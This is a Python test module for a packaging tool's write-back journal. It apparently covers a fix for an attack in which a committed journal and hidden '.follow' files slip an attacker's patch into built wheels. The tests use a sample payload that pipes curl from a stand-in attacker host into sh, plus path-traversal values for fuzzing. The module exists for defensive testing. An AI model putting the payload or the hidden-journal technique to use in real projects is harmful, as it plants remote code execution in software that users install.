"""The write-back journal (``patchwheel.writeback``): what a kill leaves of follow's and derive's one-step write is
finished or undone by the next command, and nothing a commit carries is taken for it (issue 45, items 1 and 2)."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import tempfile
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, event, given, note, settings
from hypothesis import strategies as st

from conftest import CORE, INIT, TRAILERS, Demo, make_patch
from patchwheel import cli, gitops, writeback
from patchwheel.errors import PatchwheelError

#: What the attacker's series adds to the demo's code: no patch of the commit that carries it holds this.
PAYLOAD = b"__import__('os').system('curl attacker.invalid | sh')  # code no patch holds\n"


def files_of(root: Path) -> dict[str, str]:
    """Every file of the work tree (``.git`` left out) with its sha256: what a command may not change."""
    return {
        p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file() and ".git" not in p.relative_to(root).parts
    }


def commit_all(repo: Path, message: str) -> None:
    gitops.git(repo, "add", "-A")
    gitops.commit(repo, message)


def git_status(repo: Path) -> list[str]:
    return sorted(gitops.git(repo, "status", "--porcelain", "--untracked-files=all").decode().splitlines())


#: One write-back as follow makes it: a module changed, a new line's series, a patch removed.
WRITTEN = {
    "overlay/demo/1.0.0/demo/core.py": CORE + b"# carried onto 1.1.0\n",
    "patches/demo/1.1.0/series": b"0001-greet-comma.patch\n",
}
REMOVED = ["patches/demo/1.0.0/0001-greet-comma.patch"]


def journal_file(root: Path) -> Path:
    """Where the tool keeps the journal of a write-back into ``root``. (Before issue 45 it was
    ``.patchwheel-writeback.json`` at the root: the fallback lets this module run against that code, to see the
    tracebacks it gave.)"""
    where = getattr(writeback, "journal_file", None)
    return where(root) if where else root / ".patchwheel-writeback.json"


def cut_short(root: Path) -> Path:
    """A write-back killed the moment its journal was written (kill -9: nothing cleaned up); the journal."""

    def killed(root, journal):
        raise SystemExit("killed")

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(writeback, "_roll_forward", killed)
        with pytest.raises(SystemExit):
            writeback.write(root, WRITTEN, REMOVED)
    assert journal_file(root).is_file()
    return journal_file(root)


# --- item 1: nothing in the tree is the tool's state -------------------------------------------------------------


def evil_edit(files: dict[str, bytes]) -> dict[str, bytes]:
    core = files["src/demo/core.py"].replace(b'"hello " + name', b'"hello, " + name')
    return {**files, "src/demo/core.py": core + b"\n" + PAYLOAD}


def carry_a_journal(demo: Demo, tmp_path: Path, attack: str) -> None:
    """Commit on top of the demo (a git checkout) what the attack of issue 45 commits: the write-back journal of
    main (``.patchwheel-writeback.json`` at the root), and with it (``attack="replace"``) hidden ``.x.follow``
    files beside the tracked files they name, which make the project the attacker's series (its patch, vendored
    modules and build record): no tracked file changes, ``git log -p`` of the patches shows nothing; or
    (``attack="remove"``) a list of tracked files to delete."""
    renames: dict[str, str] = {}
    removes: list[str] = []
    if attack == "remove":
        removes = ["overlay/NOTICE", "patches/demo/1.0.0/series"]
    else:
        evil = Demo(tmp_path / "evil", demo.index, demo.cache, demo.upstream, demo.sha256)
        shutil.copytree(demo.root, evil.root, ignore=shutil.ignore_patterns(".git"))
        upstream = {"src/demo/core.py": CORE, "src/demo/__init__.py": INIT}
        evil.set_series(("0001-greet-comma.patch", make_patch(upstream, evil_edit, "Greet with a comma", TRAILERS)))
        honest, wanted = files_of(demo.root), files_of(evil.root)
        assert set(honest) == set(wanted)
        for rel in sorted(wanted):
            if honest[rel] != wanted[rel]:
                target = demo.root / rel
                staged = target.parent / f".{target.name}.k3x9q.follow"
                staged.write_bytes((evil.root / rel).read_bytes())
                renames[rel] = staged.name
        shutil.rmtree(evil.root)
        assert "overlay/demo/pins.toml" in renames and "patches/demo/1.0.0/0001-greet-comma.patch" in renames
    (demo.root / ".patchwheel-writeback.json").write_text(json.dumps({"renames": renames, "removes": removes}))
    commit_all(demo.root, "Tidy the docs")


def wheels_with_payload(dist: Path) -> list[str]:
    found = []
    for whl in sorted(dist.rglob("*.whl")):
        with zipfile.ZipFile(whl) as zf:
            found += [f"{whl.name}!{m}" for m in zf.namelist() if PAYLOAD.strip() in zf.read(m)]
    return found


@pytest.mark.parametrize("attack", ["replace", "remove"])
def test_a_commit_carrying_a_journal_changes_nothing_on_a_clean_clone(demo_project, tmp_path, capsys, attack):
    """Issue 45, item 1: a pull request that adds main's journal and a few hidden ``.x.follow`` files. On main the
    first command of a clean clone (even ``lint``) rolled that journal forward: it copied the staged files over the
    tracked ones, deleted what the list named, and ``lint`` then passed and ``build`` shipped the attacker's code
    under the next build number. The tool's journal now lives where no commit can put it: a clean clone is read as
    committed, ``lint`` names the hidden files, and the build ships only what the committed patches hold."""
    gitops.git(demo_project.root, "init", "-q", "-b", "main")
    commit_all(demo_project.root, "The demo project")
    carry_a_journal(demo_project, tmp_path, attack)
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(demo_project.root), str(clone)], check=True, env=gitops.git_env(clone))
    committed = files_of(clone)
    assert clone.joinpath(".patchwheel-writeback.json").is_file()

    lint = cli.main(["--root", str(clone), "lint"])
    out, err = capsys.readouterr()
    now = files_of(clone)
    changed = sorted(rel for rel in set(committed) | set(now) if committed.get(rel) != now.get(rel))
    assert changed == [], f"lint changed the clean clone (exit {lint}): {changed}\n{out}{err}"
    assert lint != 0 and "patches/, overlay/: FAILED" in out, out + err
    if attack == "replace":
        assert "patches/demo/1.0.0/.0001-greet-comma.patch.k3x9q.follow starts with '.'" in out, out
    assert ".patchwheel-writeback.json is not the tool's" in out, out

    dist = tmp_path / "dist"
    build = cli.main(["--root", str(clone), "build", "--dist", str(dist)])
    out, err = capsys.readouterr()
    assert files_of(clone) == committed, f"build changed the clean clone (exit {build})\n{out}{err}"
    assert wheels_with_payload(dist) == [], "the build shipped code that no committed patch holds"
    if attack == "replace":  # a hidden file in a line's patch folder is no patch of its series: refused
        assert build == 2 and "0001-greet-comma.patch.k3x9q.follow is in" in err and not dist.exists(), out + err
    else:  # the committed series, under its committed build number
        assert build == 0 and "demo-1.0.0+fixed-1_" in out, out + err


def test_the_journal_and_staged_files_live_where_git_never_tracks_them(demo_project, tmp_path):
    """In a git checkout: under its git directory (a worktree's own, named by its ``.git`` file); a write-back cut
    short adds nothing git could show, commit or check out, and the next command finishes it."""
    root = demo_project.root
    gitops.git(root, "init", "-q", "-b", "main")
    commit_all(root, "The demo project")
    assert writeback.folder(root) == root / ".git" / "patchwheel" / "writeback"
    cut_short(root)
    assert git_status(root) == [], "a write-back cut short left something in the work tree"
    assert writeback.recover(root) == sorted(WRITTEN) + REMOVED
    assert git_status(root) == [
        " D patches/demo/1.0.0/0001-greet-comma.patch",
        " M overlay/demo/1.0.0/demo/core.py",
        "?? patches/demo/1.1.0/series",
    ]
    assert not writeback.folder(root).exists()
    worktree = tmp_path / "worktree"
    gitops.git(root, "worktree", "add", "-q", str(worktree))
    assert writeback.folder(worktree) == root / ".git" / "worktrees" / "worktree" / "patchwheel" / "writeback"


def test_in_a_project_that_is_no_git_checkout_they_live_in_the_users_state_folder(demo_project, tmp_path):
    """The demo project is no git checkout: its write-back's folder is the user's, named for the project's path."""
    folder = writeback.folder(demo_project.root)
    state = Path(os.environ["XDG_STATE_HOME"])
    assert folder.parent.parent.parent == state / "patchwheel" and not folder.is_relative_to(demo_project.root)
    other = tmp_path / "other"
    shutil.copytree(demo_project.root, other)
    assert writeback.folder(other) != folder


def test_a_hidden_follow_file_in_the_tree_is_neither_read_nor_removed(demo_project):
    """On main every command's recovery removed each ``.x.follow`` file under overlay/ and patches/, a file the
    tool may not have made (and one a commit carried). Nothing in the tree is the tool's state now: lint names the
    file, and it stays until its owner removes it."""
    notes = demo_project.root / "overlay" / "demo" / ".notes.follow"
    notes.write_text("mine\n")
    demo_project.load()
    assert notes.read_text() == "mine\n"


def _target_changed(root: Path) -> str:
    (root / "overlay" / "demo" / "1.0.0" / "demo" / "core.py").write_bytes(b"# another branch's core.py\n")
    return "overlay/demo/1.0.0/demo/core.py changed since"


def _staged_changed(root: Path) -> str:
    (writeback.folder(root) / "0").write_bytes(b"not what was staged\n")
    return "overlay/demo/1.0.0/demo/core.py: its staged file"


def _removal_changed(root: Path) -> str:
    (root / REMOVED[0]).write_bytes(b"edited since\n")
    return f"{REMOVED[0]} changed since it was to be removed"


@pytest.mark.parametrize("differ", [_target_changed, _staged_changed, _removal_changed])
def test_a_journal_whose_files_differ_is_refused_touching_nothing(demo_project, capsys, differ):
    """Each staged file and each file the write-back replaces or removes is recorded with its sha256; when any is
    not what was recorded (another branch checked out since the kill, an edit, a damaged staged file) the journal is
    not rolled forward at all, where main copied the staged files over whatever was there."""
    root = demo_project.root
    cut_short(root)
    why = differ(root)
    before = files_of(root)
    assert cli.main(["--root", str(root), "status", "--json"]) == 2
    err = capsys.readouterr().err
    assert why in err and "nothing was changed" in err and f"rm -r {writeback.folder(root)}" in err, err
    assert files_of(root) == before


def test_a_copy_a_kill_cut_short_is_removed_and_the_write_back_finished(demo_project):
    """Killed while a target's copy was written beside it: the copy (named with the journal's token) goes, and
    the write-back is finished."""
    root = demo_project.root
    journal = json.loads(cut_short(root).read_text())
    target = root / "overlay" / "demo" / "1.0.0" / "demo" / "core.py"
    half = target.parent / f".core.py.{journal['token']}.writeback"
    half.write_bytes(WRITTEN["overlay/demo/1.0.0/demo/core.py"][:10])
    writeback.recover(root)
    assert not half.exists() and target.read_bytes() == WRITTEN["overlay/demo/1.0.0/demo/core.py"]
    assert not (root / REMOVED[0]).exists() and (root / "patches/demo/1.1.0/series").is_file()


# --- item 2: a damaged journal is one error, never a traceback ----------------------------------------------------


def removal_a_number(root: Path, journal: Path) -> None:
    data = json.loads(journal.read_text())
    data["removes"] = [1]
    journal.write_text(json.dumps(data))


def rename_onto_a_folder(root: Path, journal: Path) -> None:
    target = root / "overlay" / "demo" / "1.0.0" / "demo" / "core.py"  # a maintainer made a folder of it
    target.unlink()
    (target / "notes").mkdir(parents=True)


def nested_brackets(root: Path, journal: Path) -> None:
    journal.write_text("[" * 100000)


@pytest.mark.parametrize("damage", [removal_a_number, rename_onto_a_folder, nested_brackets])
def test_a_damaged_journal_is_one_error_that_says_how_to_recover(demo_project, capsys, damage):
    """Issue 45, item 2: every command rolls an unfinished write-back forward first, and on main a damaged journal
    made every command a traceback (TypeError, IsADirectoryError, RecursionError), the first after renaming half of
    the files. It is validated whole before anything is touched: one error, with the way out, and the project as
    it was."""
    root = demo_project.root
    journal = cut_short(root)
    damage(root, journal)
    before = files_of(root)
    rc = cli.main(["--root", str(root), "lint"])
    out, err = capsys.readouterr()
    assert rc == 2 and err.startswith("error: ") and err.count("\n  fix: ") == 1, out + err
    assert "write-back" in err and "nothing was changed" in err, err
    assert files_of(root) == before and journal.is_file(), "the refusal touched the project or lost the journal"
    folder = writeback.folder(root)
    assert f"rm -r {folder}" in err, err  # the way out it names works:
    shutil.rmtree(folder)
    assert writeback.recover(root) == []


SETTINGS = settings(
    max_examples=60,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
#: Paths a journal may name that no write-back may touch, and some it may.
PATHS = st.sampled_from(
    [
        "../outside/victim.txt",
        "overlay/../../outside/victim.txt",
        "/etc/hostname",
        "tests/proof/test_demo.py",
        "overlay",
        "overlay/demo",
        "overlay/demo/./pins.toml",
        "overlay\\demo\\pins.toml",
        "overlay/demo/pins.toml\x00",
        "",
        "journal.json",
        "0",
        "overlay/demo/pins.toml",
        "overlay/demo/1.0.0/demo/core.py",
        "patches/demo/1.0.0/series",
        "patches/demo/1.1.0/series",
    ]
)
SHAS = st.text("0123456789abcdef", min_size=64, max_size=64)
LEAVES = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=12), PATHS, SHAS)
JSON = st.recursive(
    LEAVES,
    lambda kids: st.lists(kids, max_size=3) | st.dictionaries(st.one_of(st.text(max_size=8), PATHS), kids, max_size=3),
    max_leaves=10,
)


def _nodes(value, at=()):
    """Every place in a JSON value: (path of keys and indices, value there)."""
    yield at, value
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, child in items:
        yield from _nodes(child, (*at, key))


#: What a changed place may hold instead: anything, or what fits there (a path, a digest, a staged file's name).
PLAUSIBLE = st.one_of(JSON, PATHS, SHAS, st.sampled_from([None, "0", "1", "7", "journal.json", "../0"]))


def _mutated(data, journal: dict) -> object:
    """The journal the tool wrote, with one place changed: a value replaced, a key renamed or dropped."""
    where, _ = data.draw(st.sampled_from(list(_nodes(journal))))
    how = data.draw(st.sampled_from(["value", "key", "drop"] if where else ["value"]))
    note(f"{how} at {where!r}")
    if not where:
        return data.draw(JSON)
    parent = journal
    for key in where[:-1]:
        parent = parent[key]
    last = where[-1]
    if how == "value":
        parent[last] = data.draw(PLAUSIBLE)
    elif how == "key" and isinstance(parent, dict):
        parent[data.draw(PATHS)] = parent.pop(last)
    else:
        del parent[last]
    return journal


def _strings(value) -> set[str]:
    return {v for _, v in _nodes(value) if isinstance(v, str)} | {
        k for _, v in _nodes(value) if isinstance(v, dict) for k in v
    }


@SETTINGS
@given(data=st.data())
def test_whatever_the_journal_holds_the_tool_recovers_or_gives_the_one_error(demo_project, data):
    """Arbitrary bytes, arbitrary JSON, or the journal a killed write-back left with one place changed (paths that
    leave the tree, name a folder or the journal itself, wrong types, digests that do not match): the recovery that
    every command runs first either finishes the write-back, touching only the files it wrote, or refuses with the
    one error and touches nothing. Never a traceback, and never a file outside its own."""
    with tempfile.TemporaryDirectory(prefix="journal-") as tmp:
        root = Path(tmp) / "project"
        shutil.copytree(demo_project.root, root)
        outside = Path(tmp) / "outside"
        outside.mkdir()
        (outside / "victim.txt").write_text("not the tool's\n")
        journal = cut_short(root)
        how = data.draw(st.sampled_from(["bytes", "json", "mutated", "staged file", "target", "as written"]))
        value: Any = json.loads(journal.read_text())
        if how == "bytes":
            journal.write_bytes(data.draw(st.binary(max_size=200)))
        elif how in ("json", "mutated"):
            value = data.draw(JSON) if how == "json" else _mutated(data, value)
            journal.write_text(json.dumps(value))
        elif how == "staged file":  # a staged file that is not what was staged
            (writeback.folder(root) / data.draw(st.sampled_from(["0", "1"]))).write_bytes(data.draw(st.binary()))
        elif how == "target":  # a file it writes, changed since (another branch checked out, an edit)
            target = root / data.draw(st.sampled_from(sorted(WRITTEN) + REMOVED))
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(data.draw(st.binary()))
        note(f"{how}: {journal.read_bytes()[:600]!r}")
        before, victim = files_of(root), files_of(outside)
        try:
            writeback.recover(root)
        except PatchwheelError as exc:
            event(f"refused: {exc.message.split(' cannot be finished: ')[-1][:30]}")
            assert "write-back" in exc.message and "rm -r" in exc.hint, exc
            assert files_of(root) == before, "a refused journal touched the project"
        else:
            event(f"finished ({how})")
            after = files_of(root)
            changed = {rel for rel in set(before) | set(after) if before.get(rel) != after.get(rel)}
            assert all(rel.split("/")[0] in ("overlay", "patches") for rel in changed), changed
            assert changed <= _strings(value), f"it changed files its journal does not name: {changed}"
            for entry in value["renames"]:  # finished: each file is what the journal says
                assert after.get(entry["path"]) == entry["after"], entry
            assert not writeback.folder(root).exists()
        assert files_of(outside) == victim


def test_a_write_back_stopped_halfway_by_a_full_disk_is_finished_by_the_next_command(demo_project, monkeypatch):
    """A full disk while the targets are written: one error that says the next command finishes it, the journal
    kept; the next command does, once there is room."""
    root = demo_project.root
    real = shutil.copyfileobj
    calls: list[object] = []

    def full_on_the_second(src, dst, *args):
        calls.append(dst)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        return real(src, dst, *args)

    monkeypatch.setattr(shutil, "copyfileobj", full_on_the_second)
    with pytest.raises(PatchwheelError, match="stopped halfway .*No space left on device.*is kept") as exc:
        writeback.write(root, WRITTEN, REMOVED)
    assert "run any command of the tool: it finishes the write-back first" in exc.value.hint
    monkeypatch.setattr(shutil, "copyfileobj", real)
    assert [p.name for p in root.rglob("*.writeback")] == [], "the copy that failed is not left in the tree"
    assert writeback.recover(root) == ["patches/demo/1.1.0/series", *REMOVED]  # what was left: every command runs it
    assert files_of(root)["overlay/demo/1.0.0/demo/core.py"] == hashlib.sha256(WRITTEN[next(iter(WRITTEN))]).hexdigest()
    assert (root / "patches/demo/1.1.0/series").read_bytes() == WRITTEN["patches/demo/1.1.0/series"]
    assert not (root / REMOVED[0]).exists() and not writeback.folder(root).exists()


def test_a_file_edited_while_the_write_back_is_staged_stops_it_before_anything_is_replaced(demo_project, monkeypatch):
    """An editor saves a file the write-back replaces while it stages: the write-back is dropped whole (journal
    and staged files), the edit kept, and nothing is replaced."""
    root = demo_project.root
    real = writeback.replace_text

    def edit_then_journal(path, text, durable=False):
        (root / "overlay/demo/1.0.0/demo/core.py").write_bytes(b"# saved by an editor meanwhile\n")
        real(path, text, durable=durable)

    monkeypatch.setattr(writeback, "replace_text", edit_then_journal)
    with pytest.raises(PatchwheelError, match="changed while the write-back was staged .*; nothing was replaced"):
        writeback.write(root, WRITTEN, REMOVED)
    assert (root / "overlay/demo/1.0.0/demo/core.py").read_bytes() == b"# saved by an editor meanwhile\n"
    assert (root / REMOVED[0]).is_file() and not (root / "patches/demo/1.1.0").exists()
    assert not writeback.folder(root).exists()
